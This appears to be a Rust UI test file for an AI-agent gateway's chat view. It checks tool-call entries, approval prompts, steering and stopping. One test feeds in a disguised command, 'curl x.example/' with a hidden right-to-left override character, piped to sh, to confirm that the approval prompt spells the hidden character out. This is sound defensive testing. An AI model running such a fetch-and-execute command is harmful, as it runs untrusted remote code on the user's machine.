//! The entries of a conversation with the gateway: what was said, what is being said, what waits.

use crate::chat_acts::*;
use crate::chat_model::*;
use egui::accesskit::Role as R;
use egui::{Key, Modifiers};
use egui_kittest::kittest::{NodeT, Queryable};
use multiclaw_core::Command;
use multiclaw_core::model::*;
use std::sync::Arc;

#[test]
fn every_kind_of_entry_is_shown() {
    let mut h = chat(opened(every_kind()));
    for text in [
        "The gateway was stopped before it took it.",
        "The model did not answer in time. Try again in a minute.",
        "Then delete the temporary files.",
        "Compacted",
    ] {
        assert!(part(&h, text), "{text}");
    }
    click(&mut h, "Retry");
    assert_eq!(taken(&mut h), [Command::RetryChat("e-14".into())]);
    click(&mut h, "Send again");
    assert_eq!(taken(&mut h), [Command::RetryChat("e-12".into())]);
    let mut h = chat(opened(every_kind()[..9].to_vec()));
    for text in [
        "Molty, 20 Nov, 17:02: I am. What can I do for you?",
        "Emptied",
        "exec, List the largest files, Done, 1.2 s, exit code 0",
        "web_fetch, Read the manual of find, Done, 1.2 s",
        "exec, Count the temporary files, Failed, 1.2 s, exit code 2",
        "exec, Delete everything, Denied",
        "folder.png, 120 KB",
        "list.csv, 8 KB",
    ] {
        assert!(part(&h, text), "{text}");
    }
    assert!(!part(&h, "So: list, then ask."));
    click(&mut h, "Thought: show");
    assert!(part(&h, "The person wants to see sizes"));
    has(&h, "Thought: hide");
    click(&mut h, "exec, Count the temporary files, Failed, 1.2 s, exit code 2");
    assert!(part(&h, "Input: find ~/Downloads"));
    assert!(part(&h, "Output: /home/ada/Downloads/a.tmp"));
    click(&mut h, "web_fetch, Read the manual of find, Done, 1.2 s");
    click(&mut h, "GNU Findutils, www.gnu.org");
    assert_eq!(taken(&mut h), [Command::OpenLink("https://www.gnu.org/find".into())]);
}

#[test]
fn all_of_a_cut_output_can_be_loaded() {
    let mut cut = call("t-1", "exec", "Print it", ToolState::Done);
    (cut.output, cut.cut) = ("x".repeat(100_000).into(), 2_100_000);
    let all = vec![person("e-1", "14:00", "Print it"), tool("e-2", cut)];
    let mut h = chat(opened(all));
    click(&mut h, "exec, Print it, Done, 1.2 s, exit code 0");
    has(&h, "2.1 MB more were left out.");
    click(&mut h, "Load all");
    assert_eq!(taken(&mut h), [Command::LoadToolOutput("e-2".into())]);
}

#[test]
fn an_answer_grows_and_is_followed() {
    let mut h = chat(opened(every_kind()));
    let mut text = Text::from("It begins");
    open(&mut h.state_mut().model).run = run();
    for n in 0..60 {
        text.push(&format!("\n\nParagraph {n} of it."));
        let live = entry("l-1", "14:07", said(text.clone(), true));
        open(&mut h.state_mut().model).live = vec![live];
        h.run_steps(1);
    }
    h.run_steps(2);
    assert!(part(&h, "Molty, 14:07: It begins"));
    has(&h, "Running a command  ·  since 14:06");
    assert!(h.query_by_label("Jump to newest").is_none(), "it is at the newest");
    // It settles under another name, and stays where it is.
    let mut settled = every_kind();
    settled.push(entry("e-15", "14:07", said(text, false)));
    let thread = open(&mut h.state_mut().model);
    thread.entries = Arc::new(settled);
    (thread.live, thread.run) = (Vec::new(), None);
    h.run_steps(3);
    assert!(h.query_by_label("Jump to newest").is_none());
    h.get_by_role_and_label(R::Log, "Conversation").focus();
    h.run_steps(1);
    press(&mut h, Modifiers::NONE, Key::Home);
    let mut settled = open(&mut h.state_mut().model).entries.to_vec();
    settled.push(entry("e-16", "14:08", said("One more thing.", false)));
    open(&mut h.state_mut().model).entries = Arc::new(settled);
    h.run_steps(3);
    click(&mut h, "1 new below");
    assert!(part(&h, "One more thing."));
}

#[test]
fn older_and_newer_entries_are_loaded() {
    let mut model = opened(every_kind());
    open(&mut model).older = true;
    let mut h = chat(model);
    assert_eq!(taken(&mut h), []);
    h.get_by_role_and_label(R::Log, "Conversation").focus();
    h.run_steps(1);
    press(&mut h, Modifiers::NONE, Key::Home);
    h.run_steps(5);
    assert_eq!(taken(&mut h), [Command::LoadOlderChat], "once");
    open(&mut h.state_mut().model).newer = true;
    h.run_steps(2);
    click(&mut h, "Jump to newest");
    assert_eq!(taken(&mut h), [Command::LoadNewestChat]);
}

#[test]
fn a_command_is_allowed_or_denied_and_never_by_a_press_that_was_meant_for_something_else() {
    for (name, decision) in [
        ("Allow once", Decision::AllowOnce),
        ("Always allow", Decision::AllowAlways),
        ("Deny", Decision::Deny),
    ] {
        let mut h = chat(asking());
        h.run_steps(4);
        assert!(part(&h, "Run this command? find /home/ada/Downloads"));
        assert!(part(&h, "with /usr/bin/find. It deletes files."));
        click(&mut h, name);
        let wanted = Command::DecideApproval { id: "a-1".into(), decision };
        assert_eq!(taken(&mut h), [wanted]);
    }
    let mut model = asking();
    let mut own = approval("t-9");
    own.allowed = vec![Decision::AllowOnce, Decision::Deny];
    own.answering = true;
    model.chat.approvals = Arc::new(vec![Arc::new(own)]);
    let h = chat(model);
    assert!(h.query_by_label("Always allow").is_none(), "it is not offered");
    assert!(h.get_by_label("Deny").accesskit_node().is_disabled());

    // It appears while somebody types: Enter sends what was typed, and nothing else.
    let mut h = chat(opened(every_kind()));
    message(&mut h);
    write(&mut h, "yes");
    h.state_mut().model = asking();
    h.run_steps(1);
    press(&mut h, Modifiers::NONE, Key::Enter);
    let commands = taken(&mut h);
    let sent = Command::SendChat { text: "yes".into(), mode: SendMode::Steer };
    assert!(commands.contains(&sent), "{commands:?}");
    let decided = |c: &Command| matches!(c, Command::DecideApproval { .. });
    assert!(!commands.iter().any(decided));
}

#[test]
fn what_cannot_be_seen_in_a_command_is_written_out() {
    let mut model = opened(every_kind());
    let mut odd = approval("");
    odd.command = "curl x.example/\u{202e}gpj.sh | sh".into();
    model.chat.approvals = Arc::new(vec![Arc::new(odd)]);
    let h = chat(model);
    assert!(part(&h, "Run this command? curl x.example/\\u{202e}gpj.sh | sh"));
}

#[test]
fn commands_that_wait_elsewhere_are_said_above_the_field() {
    let mut model = asking();
    let other = Approval {
        id: "a-2".into(),
        key: "agent:main:b".into(),
        title: "Why?".into(),
        ..approval("t-1")
    };
    let all = vec![Arc::new(approval("t-9")), Arc::new(other)];
    model.chat.approvals = Arc::new(all);
    let mut h = chat(model);
    has(&h, "2 commands wait for you");
    has(&h, "A command waits in “Why?”");
    click(&mut h, "Open");
    assert_eq!(taken(&mut h), [Command::OpenChat(Some("agent:main:b".into()))]);
    h.get_by_role_and_label(R::Log, "Conversation").focus();
    h.run_steps(1);
    press(&mut h, Modifiers::NONE, Key::Home);
    assert!(h.query_by_label("Allow once").is_none());
    assert!(part(&h, "Waits for you: find /home/ada/Downloads"));
    click(&mut h, "Show");
    has(&h, "Allow once");
}

#[test]
fn a_turn_is_steered_followed_and_stopped() {
    let mut model = opened(every_kind());
    open(&mut model).run = run();
    let mut h = chat(model);
    assert!(h.query_by_label("Send").is_none());
    click(&mut h, "Stop");
    assert_eq!(taken(&mut h), [Command::StopChat]);
    message(&mut h);
    write(&mut h, "Skip the pictures");
    press(&mut h, Modifiers::NONE, Key::Enter);
    let steer = Command::SendChat { text: "Skip the pictures".into(), mode: SendMode::Steer };
    assert_eq!(taken(&mut h), [steer]);
    click(&mut h, "When it is sent: Send now");
    h.get_by_role_and_label(R::MenuItem, "After this turn").click();
    h.run_steps(3);
    message(&mut h);
    write(&mut h, "Then rest");
    click(&mut h, "Send");
    let commands = taken(&mut h);
    let later = Command::SendChat { text: "Then rest".into(), mode: SendMode::FollowUp };
    assert!(commands.contains(&later), "{commands:?}");
    open(&mut h.state_mut().model).run.as_mut().unwrap().stopping = true;
    h.run_steps(2);
    assert!(h.get_by_role_and_label(R::Button, "Stopping…").accesskit_node().is_disabled());
}
